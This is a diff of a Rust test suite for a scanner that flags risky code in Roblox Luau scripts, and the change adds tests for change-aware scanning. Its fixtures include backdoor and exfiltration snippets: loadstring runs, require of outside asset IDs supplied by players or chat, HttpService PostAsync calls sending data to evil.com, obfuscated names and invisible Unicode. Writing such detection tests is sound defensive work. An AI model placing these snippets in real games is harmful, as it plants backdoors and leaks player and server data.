@@ -4,7 +4,12 @@ use super::*;
 
 /// What is said of a script, without the lines.
 fn said(source: &str) -> Vec<String> {
-    security(source).iter().map(|it| body(it).trim().to_owned()).collect()
+    let sentence = |it: &ScanFinding| format!("{}.", it.what);
+    scan_script(source).iter().map(sentence).collect()
+}
+
+fn sentences(source: &str) -> Vec<String> {
+    scan_script(source).iter().map(ToString::to_string).collect()
 }
 
 #[track_caller]
@@ -21,7 +26,10 @@ fn names(source: &str, words: &str) {
 
 #[test]
 fn code_from_texts_and_environments() {
-    assert_eq!(security("\nloadstring(x)()"), ["Line 2 uses loadstring, which runs text as code."]);
+    assert_eq!(
+        sentences("\nloadstring(x)()"),
+        ["Line 2 uses loadstring, which runs text as code."]
+    );
     check("_G[\"loadstring\"](x)", &["uses loadstring, which runs text as code."]);
     names("x = `{getfenv()}`", "uses getfenv");
     names("setfenv(1, {})", "uses setfenv");
@@ -40,7 +48,7 @@ fn assets_from_outside() {
         "require((123456))",
         "require(tonumber(\"123456\"))",
         "pcall(require, 123456)",
-        "task.spawn(require, id)\nlocal id = 123456",
+        "local id = 123456\ntask.spawn(require, id)",
         "local id = 123456 require(id)",
         "local r = require\nr(123456)",
         "_G[\"require\"](123456)",
@@ -54,7 +62,6 @@ fn assets_from_outside() {
         "require(\"./M\")",
         "local id = 1 require(id.M)",
         "local text = require \"./text\" text(1)",
-        "local t = { require, 5 }",
         "local id = 5 id = script.M require(id.X)",
         "function Loader:LoadAsset(id) end",
         "local t = { LoadAsset = f }",
@@ -75,7 +82,7 @@ fn requests_say_to_whom() {
     names("http:PostAsync(\"https://\" .. evil .. \"/roblox.com\", x)", hidden);
     names("http:PostAsync(`https://{evil}.com/`, x)", hidden);
     let escaped = said("http:GetAsync(\"https://\\101vil.com/\")");
-    assert!(escaped.len() == 2 && escaped[0].contains(hidden), "{escaped:?}");
+    assert!(escaped.len() == 2 && escaped[0].contains("fetches from evil.com on"), "{escaped:?}");
     assert!(escaped[1].contains("writes \"https://evil.com/\" with"), "{escaped:?}");
     names("http:GetAsync(\"https://a.b.example/x?y=\" .. z)", "fetches from a.b.example on");
     names("http:RequestAsync({ Method = \"POST\", Url = \"https://C.d:443/\" })", "to c.d on");
@@ -178,7 +185,7 @@ fn tables_ciphers_and_other_languages_are_texts_too() {
         check(source, &[]);
     }
     check(&format!("-- {}", "a".repeat(300)), &[]);
-    check(&"words and words ".repeat(60).replace("words and", "'words and'"), &[]);
+    check(&"f('words and', words) ".repeat(60), &[]);
 }
 
 #[test]
@@ -199,7 +206,7 @@ fn code_that_stands_where_nobody_looks() {
 #[test]
 fn characters_that_nobody_sees() {
     let said = "Line 2 has the character U+202E, which shows text in another order.";
-    assert_eq!(security("x = 1\n-- \u{202e}2 = x"), [said]);
+    assert_eq!(sentences("x = 1\n-- \u{202e}2 = x"), [said]);
     names("x = \"Script\u{200b}\"", "U+200B, which nobody sees");
     names("x = \"\u{e0041}\u{e0042}\"", "U+E0041");
     names("x = \"a\u{feff}\"", "U+FEFF");
@@ -214,23 +221,168 @@ fn what_sleeps_in_studio_is_said_beside_what_it_does() {
     assert!(said.len() == 2 && said[0].contains("(IsStudio)"), "{said:?}");
 }
 
+#[track_caller]
+fn check_change(before: &str, after: &str, expected: &[&str]) {
+    let found: Vec<_> = scan_change(before, after).iter().map(ToString::to_string).collect();
+    assert_eq!(found, expected, "{before} -> {after}");
+}
+
 #[test]
 fn only_what_a_change_adds_is_new() {
-    let old = security("local env = getfenv()\nprint(1)");
-    let new = |source: &str| added(&old, security(source));
-    assert_eq!(new("\n\nlocal env = getfenv()\nprint(2)"), [""; 0]);
-    let second = new("local env = getfenv()\nprint(1)\ngetfenv().x = 1");
-    assert_eq!(second, ["Line 3 uses getfenv, which reaches into the environment of other code."]);
+    let old = "local env = getfenv()\nprint(1)";
+    check_change(old, "\n\nlocal env = getfenv()\nprint(2)", &[]);
+    let second = "Line 3 uses getfenv, which reaches into the environment of other code.";
+    check_change(old, "local env = getfenv()\nprint(1)\ngetfenv().x = 1", &[second]);
     // Another host is another thing, also in the same line.
-    let post = |host: &str| security(&format!("http:PostAsync(\"https://{host}/\", x)"));
-    assert_eq!(added(&post("a.example"), post("b.example")).len(), 1);
+    let post = |host: &str| format!("http:PostAsync(\"https://{host}/\", x)");
+    assert_eq!(scan_change(&post("a.example"), &post("b.example")).len(), 1);
+}
+
+#[test]
+fn a_change_within_flagged_code_is_new() {
+    let run = "Line 1 uses loadstring, which runs text as code.";
+    check_change("loadstring('print(1)')()", "loadstring(game.X.Value)()", &[run]);
+    check_change("loadstring('print(1)')()", "loadstring( \"print(1)\" ) (  ) -- a", &[]);
+    // What it is given, where it stands in another statement.
+    let run = "Line 2 uses loadstring, which runs text as code.";
+    check_change("local t = 'a'\nloadstring(t)()", "local t = x.Value\nloadstring(t)()", &[run]);
+    check_change(
+        "local t = 'a'\nloadstring(t)()",
+        "local t = 'a' local u = 2\nloadstring(t)()",
+        &[],
+    );
+    let sends = "local function send(url, data)\n\thttp:PostAsync(url, data)\nend\n";
+    let first = "send(\"https://a.example/log\", 1)\n";
+    let call = "Line 5 calls send, which sends data to";
+    let change = |before: &str, after: &str| scan_change(before, after);
+    let second = |data: &str| {
+        let again = format!("{sends}{first}send(\"https://a.example/log\", {data})");
+        change(&[sends, first].concat(), &again)
+    };
+    let found = second("game.JobId");
+    assert!(found.len() == 1 && found[0].to_string().starts_with(call), "{found:?}");
+    // The function sends to others from now on.
+    assert_eq!(change(&[sends, first].concat(), &[sends, first, "send(URL, 1)"].concat()).len(), 1);
+    let payload = "local p = {}\np.a = 1\nhttp:PostAsync(\"https://a.example/\", p)";
+    assert_eq!(change(payload, &payload.replace("p.a = 1", "p.a = token")).len(), 1);
+    assert_eq!(change(payload, &payload.replace("p.a = 1", "p.a = 1 -- one")), []);
+    // A condition that holds from now on.
+    let off = "if false then\n\trequire(123456)\nend";
+    assert_eq!(change(off, &off.replace("false", "true")).len(), 1);
+    assert_eq!(change(off, &off.replace("end", "end print(1)")), []);
+    // A new call, without a change of the function.
+    let leak = "local function leak()\n\thttp:PostAsync(URL, game.JobId)\nend\n";
+    check_change(
+        leak,
+        &[leak, "leak()"].concat(),
+        &[
+            "Line 4 calls leak, which sends data to an address that does not stand here on the internet (PostAsync).",
+        ],
+    );
+    check_change(&[leak, "leak()"].concat(), &[leak, "print(1)\nleak()"].concat(), &[]);
 }
 
 #[test]
 fn a_card_says_how_much_it_leaves_out() {
-    let said = listed(security(&"getfenv()\n".repeat(35)));
+    let said = list_findings(scan_script(&"getfenv()\n".repeat(35)));
     assert_eq!(said.len(), 31);
     assert_eq!(said[30], "5 more places are like these; read all of it.");
+}
+
+#[test]
+fn values_are_followed_to_what_uses_them() {
+    let asset = "requires the asset 8265423423, code from outside the place.";
+    for source in [
+        "(require)(8265423423)",
+        "require(8265423423 :: any)",
+        "require(nil or 8265423423)",
+        "require(true and 8265423423)",
+        "require(if x then 8265423423 else y)",
+        "require(- -8265423423)",
+        "require(math.floor(8265423423.2))",
+        "require(\"8265423423\" * 1)",
+        "xpcall(require, print, 8265423423)",
+        "coroutine.wrap(require)(8265423423)",
+        "select(1, require)(8265423423)",
+        "require(tonumber(table.concat({ \"82654\", \"23423\" })))",
+        "require(tonumber(`8265{423423}`))",
+        "local c = { Module = 8265423423 } require(c.Module)",
+        "local c = { 8265423423 } require(c[1])",
+        "local c = {} c.Module = 8265423423 require(c.Module)",
+        "local function id() return 8265423423 end require(id())",
+        "for _, id in { 8265423423 } do require(id) end",
+        "local function load(id) return require(id) end load(8265423423)",
+    ] {
+        let said = said(source);
+        assert!(said.contains(&asset.to_owned()), "{source}: {said:?}");
+    }
+    assert_eq!(said("({ require })[1](8265423423)").len(), 2);
+    for source in ["return require", "local t = { require, 5 }", "f(require)", "m.load = require"] {
+        names(source, "passes on require itself");
+    }
+    let far = |source: &str, from: &str| {
+        names(source, &format!("requires a module that comes from {from}"));
+    };
+    far("remote.OnServerEvent:Connect(function(_, id) require(id) end)", "what a player's client");
+    far("p.Chatted:Connect(function(m) require(tonumber(m:sub(5))) end)", "a chat message");
+    far("local id = store:GetAsync('id') require(id)", "a data store");
+    far("require(script:GetAttribute('Id'))", "an attribute");
+    names("require(tonumber(x))", "by a number that is worked out");
+    names("Assets:LoadAssetAsync(id)", "uses LoadAssetAsync");
+    names("local m = \"PostAsync\" h[m](h, \"https://evil.com/\", x)", "sends data to evil.com");
+    names("pcall(h.PostAsync, h, \"https://evil.com/\", x)", "sends data to evil.com");
+    names("x = (\"%s%s\"):format(\"Post\", \"Async\")", "writes \"PostAsync\" in pieces");
+    names("x = `{\"Http\"}Service`", "writes \"HttpService\" in pieces");
+    names("x = \"load\\z\n   string\"", "writes \"loadstring\" in pieces");
+    names(
+        "t = string.char(107 + 1, 111, 97, 100, 115, 116, 114, 105, 110, 103)",
+        "writes \"loadstring\" as a list",
+    );
+    for source in [
+        "local ok, m = pcall(require, script.M) return m",
+        "local require = require require(script.M)",
+        "local load = require(script.Loader) load(5)",
+        "for _, m in folder:GetChildren() do require(m) end",
+        "require(script.Ref.Value)",
+        "require(script.Text)",
+        "local function Loader() end local t = { LoadAsset = Loader } t.LoadAsset(5)",
+    ] {
+        check(source, &[]);
+    }
+}
+
+#[test]
+fn what_cannot_be_read_is_said() {
+    let deep = format!("return {}1{}", "(".repeat(900), ")".repeat(900));
+    names(&deep, "nested too deeply");
+    let said = said("loadstring(x)( local");
+    assert!(said.len() == 2 && said[1].contains("uses loadstring"), "{said:?}");
+    // Luau ends a comment at a lone carriage return.
+    names("-- a\rrequire(123456)", "requires the asset 123456");
+}
+
+/// Everything is evaluated at most once, whatever hangs on it.
+#[test]
+fn it_ends_on_all_that_hangs_on_itself() {
+    let work = || {
+        let lines = |line: fn(usize) -> String| (1..2_000).map(line).collect::<Vec<_>>().concat();
+        let chain = lines(|n| format!("local a{n} = a{}\n", n - 1));
+        assert_eq!(said(&format!("local a0 = require\n{chain}a1999(123456)")).len(), 1);
+        let back = lines(|n| format!("function f{n}(x) return f{}(x) end\n", n + 1));
+        said(&format!("{back}require(f1(1))"));
+        said("local t = {} t.t = t t.t.t.t.x = t local a = a or a a = a .. a require(a)");
+        said(&format!("local x = \"{}\"\n{}", "a".repeat(400), "x = x .. x\n".repeat(3_000)));
+        said(&"h[m](h, x)\n".repeat(10_000));
+        let nest = format!("{}require(1){}", "do ".repeat(90), " end".repeat(90));
+        assert_eq!(said(&nest).len(), 1);
+        said(&format!("return {}1{}", "{ x = ".repeat(90), " }".repeat(90)));
+        said(&format!("return f{}", "(function() return g end)(1)".repeat(2_000)));
+        said(&format!("x = {}1", "1 .. ".repeat(900)));
+        said(&format!("local t = {{ {} }}\n{}", "a=1,".repeat(10_000), "t.a()\n".repeat(20_000)));
+        said(&"x.OnServerInvoke = f\n".repeat(9_000));
+    };
+    let stack = std::thread::Builder::new().stack_size(64 << 20);
+    stack.spawn(work).unwrap().join().unwrap();
 }
 
 #[test]
@@ -326,7 +478,7 @@ fn what_it_looks_through_has_no_end_in_any_shape() {
             state ^= state << 17;
             source.push_str(pieces[(state >> 9) as usize % pieces.len()]);
         }
-        security(&source);
+        scan_script(&source);
         imitation(&source);
     }
 }
